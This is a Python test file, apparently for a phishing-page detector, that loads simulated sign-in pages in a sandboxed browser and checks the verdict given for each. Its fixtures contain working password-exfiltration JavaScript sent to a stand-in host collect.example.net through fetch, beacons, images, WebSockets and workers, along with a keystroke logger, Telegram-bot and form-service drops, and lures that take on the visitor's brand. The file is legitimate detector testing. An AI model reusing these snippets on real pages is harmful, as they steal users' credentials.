"""Each row of the verdict table, on pages in the enclosed browser."""

import base64
import json

import pytest

from pages.made import brands, saved
from pages.probe.sites import FORM, HOST, NAMES, PAINT, RECIPIENT, Site, keys, page, probed, ways
from unhook.limits import ProbeLimits
from unhook.pages.broker import Answer
from unhook.pages.browser import availability
from unhook.pages.browser.browser import Browser
from unhook.pages.browser.failure import BrowserError
from unhook.pages.looked import Looked
from unhook.pages.probe.pictured import Pictured
from unhook.pages.probe.probe import probe
from unhook.pages.served import DOCUMENT
from unhook.pages.source.look import look

pytestmark = pytest.mark.chromium

FRAGMENT = "const who=location.hash.slice(1);"
WORKER = "onmessage=e=>{const w=new WebSocket('wss://collect.example.net/w');w.onopen=()=>w.send(e.data)}"
CONNECTED = (
    "onconnect=e=>{e.ports[0].onmessage=m=>{const w=new WebSocket('wss://collect.example.net/w');"
    "w.onopen=()=>w.send(m.data)}}"
)
SUBMITS = "document.forms[0].onsubmit=e=>{e.preventDefault();const s=document.forms[0].secret.value;%s};"


def scripted(source: str) -> Answer:
    return Answer(source.encode(), headers={"content-type": "text/javascript"})


def test_a_brand_that_follows_the_visitor(browser: Browser) -> None:
    report = probed(browser, page("Sign in", FORM, FRAGMENT + NAMES + PAINT), HOST + "#" + RECIPIENT)
    assert (report.verdict, report.sure, report.adapts) == ("malicious", "high", True)
    assert "brand-follows-visitor" in keys(report)
    named = {view.identity.key: view.brand and view.brand.brand.name for view in report.views}
    assert named == {
        "N": "Provider C",
        "G": "Provider A",
        "O": "Provider B",
        "C": "Provider C",
        "G2": "Provider A",
    }
    assert report.carried[0].place == "fragment"
    assert report.score > 0.2
    assert all(view.screenshot.startswith(b"\x89PNG") for view in report.views)
    assert ways(report) == {("form", "update.victim-site.test", "plain")}


def test_passively_no_request_carries_who_looks(browser: Browser) -> None:
    source = page(
        "Sign in",
        FORM,
        FRAGMENT
        + NAMES
        + PAINT
        + "fetch('/log?u='+btoa(who));fetch('/log',{method:'POST',body:who});"
        + "new Image().src='/i?'+who.split('@')[0]",
    )
    site = Site({HOST: source})
    report = probe(site, HOST + "#" + RECIPIENT, (RECIPIENT,), browser=browser, seed=7)
    assert report.reach == "passive"
    told = "\n".join(site.heard)
    for view in report.views:
        if view.identity.local_part:
            assert view.identity.local_part not in told
            withheld = [each for each in view.requests if each.withheld]
            assert len(withheld) == 3
            assert all(each.went and not each.answered for each in withheld)
    assert site.heard.count(HOST) == len(report.views)


def test_what_only_the_server_could_tell_is_asked_actively_alone(browser: Browser) -> None:
    start = f"{HOST}?u={RECIPIENT}"
    read = "const who=new URLSearchParams(location.search).get('u');"
    source = page("Sign in", FORM, read + NAMES + PAINT)
    passive = probed(browser, {start: source}, start, "passive")
    assert not passive.adapts
    active = Site({start: source})
    probe(active, start, (RECIPIENT,), reach="active", browser=browser, seed=7)
    told = {address for address in active.heard if address.startswith(f"{HOST}?u=")}
    # Nobody's address at a real provider is told to a server.
    assert not any("gmail" in address or "outlook" in address for address in told)
    firm = [address for address in told if address.endswith(".test")]
    assert len(firm) == 1
    local = probed(browser, {start: source}, start)
    assert "brand-follows-visitor" in keys(local)


@pytest.mark.parametrize(
    ("shows", "kind"),
    [
        ("pic.src='https://logo.clearbit.com/'+domain", "logo"),
        ("pic.src='https://www.google.com/s2/favicons?sz=64&domain='+domain", "favicon"),
        (
            "document.body.style.backgroundImage='url(https://image.thum.io/get/https://'+domain+')'",
            "screenshot",
        ),
    ],
)
def test_a_firm_is_shown_its_own_logo(browser: Browser, shows: str, kind: str) -> None:
    script = FRAGMENT + f"const domain=who.split('@')[1];if(domain){{{shows}}}"
    report = probed(
        browser, page("Sign in", "<img id=pic width=90 height=60>" + FORM, script), HOST + "#" + RECIPIENT
    )
    assert report.verdict == "malicious"
    assert "own-logo-shown" in keys(report)
    firm = report.view("C")
    assert firm is not None
    assert [(each.kind, each.shown) for each in firm.questions] == [(kind, True)]


def test_a_page_that_asks_for_the_mail_exchanger(browser: Browser) -> None:
    script = FRAGMENT + (
        "if(who)fetch('https://dns.google/resolve?type=MX&name='+who.split('@')[1])"
        ".then(r=>r.json()).then(a=>{"
        "const mx=a.Answer[0].data;document.title='Sign in to '+(/google/.test(mx)?'Provider A':"
        "/outlook/.test(mx)?'Provider B':'Provider C')})"
    )
    report = probed(browser, page("Sign in", FORM, script), HOST + "#" + RECIPIENT, "passive")
    assert {"brand-follows-visitor"} <= keys(report)
    firm = report.view("C")
    assert firm is not None
    assert [each.kind for each in firm.questions] == ["dns"]


def test_one_brand_on_a_foreign_host(browser: Browser) -> None:
    report = probed(browser, page("Sign in to Provider A", FORM))
    assert (report.verdict, report.adapts) == ("malicious", False)
    assert keys(report) == {"brand-off-host"}


SENDS = {
    "fetch": "fetch('https://collect.example.net/f',{method:'POST',body:JSON.stringify({s})})",
    "xhr": "const x=new XMLHttpRequest();x.open('POST','https://collect.example.net/x');x.send(btoa('p='+s))",
    "beacon": "navigator.sendBeacon('https://collect.example.net/b',[...s].reverse().join(''))",
    "image": "new Image().src='https://collect.example.net/i?s='+encodeURIComponent(s)",
    "websocket": "const w=new WebSocket('wss://collect.example.net/w');w.onopen=()=>w.send(s)",
}


@pytest.mark.parametrize(
    ("way", "encoding"),
    [
        ("fetch", "plain"),
        ("xhr", "base64"),
        ("beacon", "reversed"),
        ("image", "plain"),
        ("websocket", "plain"),
    ],
)
def test_a_password_to_anothers_host(browser: Browser, way: str, encoding: str) -> None:
    report = probed(browser, page("Sign in to Provider A", FORM, SUBMITS % SENDS[way]))
    assert report.verdict == "malicious"
    assert "password-to-another" in keys(report)
    assert (way, "collect.example.net", encoding) in ways(report)


@pytest.mark.parametrize("made", ["'w.js'", f"URL.createObjectURL(new Blob([{json.dumps(WORKER)}]))"])
def test_a_password_through_a_workers_socket(browser: Browser, made: str) -> None:
    source = page("Garden club", FORM, f"const w=new Worker({made});" + SUBMITS % "w.postMessage(s)")
    script = Answer(WORKER.encode(), headers={"content-type": "text/javascript"})
    report = probed(browser, {HOST: source, HOST + "w.js": script})
    assert ("websocket", "collect.example.net", "plain") in ways(report)
    assert "password-to-another" in keys(report)


@pytest.mark.parametrize(
    ("made", "script"),
    [
        ("new Worker('w.js',{type:'module'})", WORKER),
        ("new Worker('outer.js')", WORKER),
        ("new SharedWorker('w.js').port", CONNECTED),
        ("new SharedWorker('w.js',{type:'module'}).port", CONNECTED),
    ],
)
def test_workers_of_every_kind_are_heard(browser: Browser, made: str, script: str) -> None:
    source = page("Garden club", FORM, f"const w={made};" + SUBMITS % "w.postMessage(s)")
    outer = "const w=new Worker('w.js');onmessage=e=>w.postMessage(e.data)"
    report = probed(
        browser,
        {HOST: source, HOST + "w.js": scripted(script), HOST + "outer.js": scripted(outer)},
    )
    assert ("websocket", "collect.example.net", "plain") in ways(report)
    assert not any(view.unheard for view in report.views)


@pytest.mark.parametrize(
    ("made", "headers", "kind"),
    [
        ("navigator.serviceWorker.register('w.js')", {}, "service-worker"),
        (
            "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker,'w.js')",
            {},
            "service-worker",
        ),
        ("new Worker('w.js')", {"content-security-policy": "worker-src 'self'"}, "worker"),
        ("new Worker('w.js')", {"content-security-policy": "require-trusted-types-for 'script'"}, "worker"),
    ],
)
def test_a_page_whose_workers_are_not_heard_is_never_cleared(
    browser: Browser, made: str, headers: dict[str, str], kind: str
) -> None:
    home = "https://login.provider-a.test/in"
    source = page("Provider A", "<h1>Provider A</h1>" + FORM.replace("next.php", "/next"), made)
    kind_of = {"content-type": "text/html; charset=utf-8"}
    plain = probed(browser, {home: page("Provider A", "<h1>Provider A</h1>" + FORM)}, home)
    assert plain.verdict == "benign-home-realm"
    pages: dict[str, str | Answer] = {
        home: Answer(source.encode(), headers=kind_of | headers),
        "https://login.provider-a.test/w.js": scripted(WORKER),
    }
    report = probed(browser, pages, home)
    assert {view.unheard for view in report.views} == {(kind,)}
    assert report.verdict == "inconclusive"
    assert "worker-unheard" in keys(report)
    kept = look(saved(source, home), brands())
    assert kept.verdict == "benign-home-realm"
    assert Looked(kept, report).verdict == "inconclusive"


def test_a_worker_asks_as_if_from_its_own_place(browser: Browser) -> None:
    script = "importScripts('more.js');fetch('log?n='+more).then(a=>a.text()).then(postMessage)"
    source = page("Garden club", FORM, "new Worker('/w/own.js').onmessage=e=>document.title=e.data")
    text = {"content-type": "text/javascript"}
    root = "https://update.victim-site.test/w/"
    report = probed(
        browser,
        {
            HOST: source,
            root + "own.js": Answer(script.encode(), headers=text),
            root + "more.js": Answer(b"var more=7", headers=text),
            root + "log?n=7": Answer(b"told", headers=text),
        },
    )
    assert {view.title for view in report.views} == {"told"}


@pytest.mark.parametrize(
    ("target", "key"),
    [
        ("https://api.telegram.org/bot000:inert/sendMessage", "password-to-bot"),
        ("https://formspree.io/f/inert", "password-to-form-service"),
    ],
)
def test_a_password_to_a_service(browser: Browser, target: str, key: str) -> None:
    sends = f"fetch('{target}',{{method:'POST',body:s}})"
    report = probed(browser, page("Garden club", FORM, SUBMITS % sends))
    assert report.verdict == "malicious"
    assert key in keys(report)


def test_the_owners_sign_in_that_sends_each_visitor_home(browser: Browser) -> None:
    first = (
        "<h1>Provider A</h1><form id=f><input type=email name=login><button>Next</button></form>",
        "f.onsubmit=e=>{e.preventDefault();const d=f.login.value.split('@')[1];"
        "location=d=='outlook.com'?'https://sign-in.provider-b.test/':'/password'}",
    )
    password = "<form method=post action=/check><input type=password name=p><button>Sign in</button></form>"
    report = probed(
        browser,
        {
            "https://login.provider-a.test/": page("Sign in to Provider A", *first),
            "https://login.provider-a.test/password": page("Sign in to Provider A", password),
            "https://sign-in.provider-b.test/": page("Sign in to Provider B", password),
        },
        "https://login.provider-a.test/",
    )
    assert (report.verdict, report.adapts) == ("benign-home-realm", True)
    assert "home-realm-follows" in keys(report)
    outlook = report.view("O")
    assert outlook is not None
    assert outlook.host is not None
    assert outlook.host.name == "sign-in.provider-b.test"


def test_a_page_that_asks_for_the_address_and_only_repaints(browser: Browser) -> None:
    body = "<form id=f><input type=email name=login><button>Next</button></form>"
    script = (
        "f.onsubmit=e=>{e.preventDefault();const who=f.login.value;setTimeout(()=>{" + NAMES + PAINT
        + "f.innerHTML='<input type=password name=p><button>Sign in</button>'},4000)}"
    )  # fmt: skip
    report = probed(browser, page("Sign in", body, script))
    assert "brand-follows-visitor" in keys(report)
    assert all(view.typed for view in report.views if view.identity.address)


def test_a_page_that_adapts_and_asks_for_nothing(browser: Browser) -> None:
    script = FRAGMENT + NAMES + PAINT
    report = probed(browser, page("Hello", "<h1>Hello</h1><p>Roses are red", script), HOST + "#" + RECIPIENT)
    assert (report.verdict, report.adapts) == ("inconclusive", True)
    assert "adapts-asks-nothing" in keys(report)


@pytest.mark.parametrize(
    ("source", "key"),
    [
        (page("Just a moment", "<p>Verify you are human</p>"), "challenge"),
        ("", "shows-nothing"),
        (Answer(b"<h1>Not found</h1>", 404, {"content-type": "text/html"}), "page-refused"),
        (page("Garden club", FORM), "same-for-everybody"),
    ],
)
def test_what_does_not_tell_is_inconclusive(browser: Browser, source: str | Answer, key: str) -> None:
    report = probed(browser, {HOST: source})
    assert report.verdict == "inconclusive"
    assert key in keys(report)


def test_a_page_that_turns_strangers_away(browser: Browser) -> None:
    script = FRAGMENT + "if(who&&who!='x'){document.body.innerHTML='<h1>This account does not exist</h1>'}"
    report = probed(browser, page("Sign in", FORM, script), HOST + "#" + RECIPIENT)
    assert report.verdict == "inconclusive"
    assert "refuses-visitor" in keys(report)


def test_pictures_that_change_at_each_visit_are_noise(browser: Browser) -> None:
    picture = "<img id=i width=300 height=200>"
    script = (
        "i.src='data:image/svg+xml,'+encodeURIComponent('<svg xmlns=\"http://www.w3.org/2000/svg\"><text>'"
        "+Math.random()+'</text></svg>');document.title='Garden club '+Math.random()"
    )
    report = probed(browser, page("Garden club", picture + FORM, script))
    assert (report.verdict, report.adapts) == ("inconclusive", False)
    assert report.score < 0.1
    pictures = next(each for each in report.differences if each.feature == "picture")
    assert (pictures.across, pictures.repeat, pictures.beyond_noise) == (1, 1, 0)


def test_looks_alone_follow_the_visitor_when_each_sees_its_own_again(browser: Browser) -> None:
    script = FRAGMENT + (
        "const of={'gmail.com':'red','outlook.com':'blue'};i.src='data:image/svg+xml,'+encodeURIComponent("
        '\'<svg xmlns="http://www.w3.org/2000/svg"><circle r="9" fill="\''
        "+(of[who.split('@')[1]]||'green')+'\"/></svg>')"
    )
    report = probed(
        browser, page("Sign in", "<img id=i width=90 height=90>" + FORM, script), HOST + "#" + RECIPIENT
    )
    assert (report.verdict, report.adapts) == ("suspicious", True)
    assert "looks-follow-visitor" in keys(report)
    assert {view.identity.key for view in report.views} == {"N", "G", "O", "C", "G2", "O2", "C2"}


def test_a_code_to_be_entered_elsewhere(browser: Browser) -> None:
    link = "<a href=https://microsoft.com/devicelogin>microsoft.com/devicelogin</a>"
    body = f"<p>Enter this code ABCD-EFGH at {link}</p>"
    report = probed(browser, page("Verify", body))
    assert (report.verdict, keys(report)) == ("suspicious", {"device-code"})


def test_a_window_drawn_on_the_page(browser: Browser) -> None:
    bar = "<div><div class=address-bar>https://login.provider-a.test/sign-in</div>"
    report = probed(browser, page("Shared file", bar + FORM + "</div>"))
    assert report.verdict == "malicious"
    assert "drawn-window" in keys(report)


def test_a_form_that_waits_is_seen(browser: Browser) -> None:
    script = f"setTimeout(()=>document.body.insertAdjacentHTML('beforeend','{FORM}'),45000)"
    report = probed(browser, page("Sign in to Provider A", "<p>Loading", script))
    assert report.verdict == "malicious"
    assert ways(report)


def test_a_form_behind_a_button_is_opened(browser: Browser) -> None:
    opens = f"go.onclick=()=>document.body.insertAdjacentHTML('beforeend','{FORM}')"
    waits = "<p>A file was shared with you.</p><button id=go>View the file</button>"
    report = probed(browser, page("Provider A", waits, opens))
    assert report.verdict == "malicious"
    assert report.login


def test_a_form_that_asks_for_nothing_is_not_sent_to_see_more(browser: Browser) -> None:
    """To open it may be to confirm something."""
    report = probed(browser, page("Provider A", "<form action=/confirm><button>View</button></form>"))
    assert not any("confirm" in each.url for view in report.views for each in view.requests)


@pytest.mark.parametrize(
    "field",
    [
        "<input name=word style='-webkit-text-security:disc'>",
        "<style>.x{-webkit-text-security:circle}</style><input class=x name=word>",
        "<input name=pass placeholder=Password>",
    ],
)
def test_text_dressed_as_a_password(browser: Browser, field: str) -> None:
    report = probed(
        browser,
        page("Sign in to Provider A", f"<form method=post action=x.php>{field}<button>Go</button></form>"),
    )
    assert report.verdict == "malicious"
    assert {each.kind for view in report.views for each in view.fields} == {"dressed"}
    assert ways(report)


@pytest.mark.parametrize(
    "body",
    [
        "<iframe src='https://other.test/f' width=400 height=300></iframe>",
        "<iframe srcdoc='<form method=post action=https://other.test/x><input type=password name=p></form>'>"
        "</iframe>",
        "<div id=s></div><script>s.attachShadow({mode:'closed'}).innerHTML='<form method=post"
        " action=https://other.test/x><input type=password name=p></form>'</script>",
    ],
)
def test_forms_in_frames_and_closed_shadows(browser: Browser, body: str) -> None:
    inner = "<form method=post action=/x><input type=password name=p><button>Go</button></form>"
    report = probed(browser, {HOST: page("Sign in to Provider A", body), "https://other.test/f": inner})
    assert {(way, to) for way, to, _ in ways(report)} == {("form", "other.test")}
    assert "brand-off-host" in keys(report)


def test_what_is_hidden_is_not_shown(browser: Browser) -> None:
    body = "<h1 style='display:none'>Provider A</h1><h1 style='opacity:0'>Provider B</h1><h1>Garden club</h1>"
    report = probed(browser, page("Welcome", body + FORM))
    assert not report.brands
    assert "Provider" not in report.views[0].words


def test_a_page_that_wants_the_password_twice(browser: Browser) -> None:
    sends = "n=self.n=(self.n||0)+1;if(n>1)fetch('https://collect.example.net/p',{method:'POST',body:s});"
    script = SUBMITS % (
        sends + "document.querySelector('h1').textContent='Wrong password '+n;document.forms[0].reset()"
    )
    report = probed(browser, page("Sign in", "<h1>Welcome</h1>" + FORM, script))
    assert {posting.attempt for _, posting in report.postings if posting.secret} == {2}
    assert ways(report) == {("fetch", "collect.example.net", "plain")}


def test_a_password_sent_letter_by_letter(browser: Browser) -> None:
    script = (
        "document.forms[0].secret.onkeydown=e=>{if(e.key.length==1)new Image().src="
        "'https://collect.example.net/k?k='+encodeURIComponent(e.key)+'&'};"
        "document.forms[0].onsubmit=e=>e.preventDefault()"
    )
    report = probed(browser, page("Garden club", FORM, script))
    assert ("image", "collect.example.net", "pieces") in ways(report)


def test_an_attachment_with_the_recipient_in_its_script(browser: Browser) -> None:
    written = base64.b64encode(RECIPIENT.encode()).decode()
    script = f"const who=atob('{written}');" + NAMES + PAINT
    form = FORM.replace("next.php", "https://collect.example.net/p")
    report = probed(browser, {DOCUMENT: page("Sign in", form, script)}, DOCUMENT)
    assert report.host is None
    assert "brand-follows-in-file" in keys(report)


def test_a_page_that_hangs_is_a_fault_and_no_verdict(browser: Browser) -> None:
    script = FRAGMENT + "setTimeout(()=>{if(who.includes('gmail'))for(;;);},10)"
    report = probed(browser, page("Garden club", FORM, script), HOST + "#" + RECIPIENT)
    assert report.verdict == "inconclusive"
    assert "view-failed" in keys(report)
    somebody, nobody = report.view("G"), report.view("N")
    assert somebody is not None
    assert nobody is not None
    assert (somebody.fault, nobody.fault) == ("hang", None)


def test_when_the_time_is_over_nobody_else_is_shown_the_page(browser: Browser) -> None:
    report = probe(Site({HOST: page("A", FORM)}), HOST, browser=browser, limits=ProbeLimits(seconds=0))
    assert {view.fault for view in report.views} == {"time"}
    assert report.reached == ("seconds",)
    assert report.verdict == "inconclusive"


def test_a_machine_that_cannot_shut_a_browser_in_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(availability, "refusal", lambda: "no namespaces")
    with Browser() as own, pytest.raises(BrowserError, match="no namespaces"):
        probe(Site({HOST: page("A", FORM)}), HOST, browser=own)


def test_a_name_that_is_only_drawn_is_read_from_the_picture(browser: Browser) -> None:
    looked: list[bytes] = []

    def reads(picture: bytes) -> Pictured:
        looked.append(picture)
        return Pictured("Provider A")

    site = Site({HOST: page("Sign in", "<canvas></canvas>" + FORM)})
    report = probe(site, HOST, reach="local", brands=brands(), browser=browser, reads=reads)
    assert report.verdict == "malicious"
    assert {view.brand.where for view in report.views if view.brand} == {"picture"}
    assert all(picture.startswith(b"\x89PNG") for picture in looked)


def test_alerts_and_windows_keep_nobody(browser: Browser) -> None:
    script = SUBMITS % "alert('Wrong password');window.open('about:blank');location='https://other.test/'"
    report = probed(browser, page("Sign in to Provider A", FORM, "alert('Welcome');" + script))
    assert report.verdict == "malicious"
    assert all(view.fault is None for view in report.views)
